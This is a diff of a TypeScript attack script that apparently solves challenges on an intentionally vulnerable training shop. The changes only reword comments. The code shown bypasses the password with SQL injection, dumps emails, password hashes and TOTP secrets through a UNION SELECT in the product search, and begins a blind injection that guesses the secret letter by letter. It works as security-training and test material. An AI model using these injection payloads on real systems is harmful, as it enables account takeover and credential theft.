@@ -1,13 +1,13 @@
 import type { Attack, Tools } from '#lab'
 import { logInAs } from './steps.ts'
 
-/** What a token says of its owner. */
+/** What a token says about its owner. */
 function ownerOf(token: string): Record<string, unknown> {
   const payload = token.split('.')[1] ?? ''
   return JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/'))).data
 }
 
-/** Gets past the password by injection, and past the second factor with a code for this secret. */
+/** Passes the password by injection, and the second factor with a code for this secret. */
 async function passWith({ http, authenticator, expect, settings }: Tools, secret: string): Promise<void> {
   const email = `wurstbrot@${settings.domain}`
   const login = await http.post('/rest/user/login', { email: `${email}'--`, password: 'a' })
@@ -17,7 +17,7 @@ async function passWith({ http, authenticator, expect, settings }: Tools, secret
   expect(answer.status === 200, `the code was answered with ${answer.status}`)
 }
 
-/** Has the search show the accounts as if they were products, with the secret in the place of the picture. */
+/** Has the search list the accounts as products, with the secret as the picture. */
 async function secretInSearch({ http, expect, settings }: Tools): Promise<string> {
   const union = "')) UNION SELECT null,id,email,password,totpsecret,null,null,null,null FROM users--"
   const answer = await http.get(`/rest/products/search?q=${encodeURIComponent(union)}`)
@@ -29,13 +29,15 @@ async function secretInSearch({ http, expect, settings }: Tools): Promise<string
   return String(secret)
 }
 
-/** Has the login write the secret into a token, in the place of the name. */
+/** Has the login write the secret into a token, as the name. */
 async function secretInToken(tools: Tools): Promise<string> {
   const token = await logInAs(tools, 'wurstbrot', { username: 'totpSecret', totpSecret: "''" })
   return String(ownerOf(token).username)
 }
 
-/** Asks the login for one letter of the secret at a time: a second factor is only asked for where the guess was right. */
+/**
+ * Guesses one letter of the secret at a time at the login: the second factor is only requested if the guess was right.
+ */
 async function secretByQuestions({ http, settings }: Tools): Promise<string> {
   const email = `wurstbrot@${settings.domain}`
   const isTrue = async (condition: string): Promise<boolean> => {
